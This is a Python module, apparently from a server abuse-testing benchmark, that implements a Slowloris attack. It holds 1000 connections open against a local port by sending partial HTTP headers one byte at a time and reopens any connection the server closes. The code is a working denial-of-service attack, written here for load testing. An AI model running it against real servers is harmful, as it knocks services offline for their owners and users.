"""Many connections whose heads come a byte at a time (Slowloris)."""

import select
import socket
import time
from collections import Counter
from contextlib import suppress

from bench.abuse.attack import Attack, People, Target
from bench.abuse.heads import read_status

CONNECTIONS = 1000
PAUSE_SECONDS = 1.0


def _prepare(people: People) -> None:
    del people


def _run(target: Target, prepared: None) -> Counter[int]:
    """Keep the connections open for the whole time; open a new one for each that the server ends."""
    del prepared
    statuses, ends = Counter[int](), time.monotonic() + target.seconds
    links: list[socket.socket] = []
    while time.monotonic() < ends:
        with suppress(OSError):
            while len(links) < CONNECTIONS:
                links.append(socket.create_connection(("127.0.0.1", target.port), timeout=1))
                links[-1].sendall(b"GET / HTTP/1.1\r\nX: ")
        for link in _find_ended(links):
            statuses[read_status(link)] += 1
            link.close()
            links.remove(link)
        for link in links:
            with suppress(OSError):
                link.sendall(b"y")
        time.sleep(PAUSE_SECONDS)
    for link in links:
        link.close()
    return statuses


def _find_ended(links: list[socket.socket]) -> list[socket.socket]:
    poll = select.poll()
    by_number = {link.fileno(): link for link in links}
    for number in by_number:
        poll.register(number, select.POLLIN | select.POLLHUP)
    return [by_number[number] for number, _event in poll.poll(0)]


ATTACK = Attack(f"{CONNECTIONS} connections with slow heads", _prepare, _run, control="unbounded")
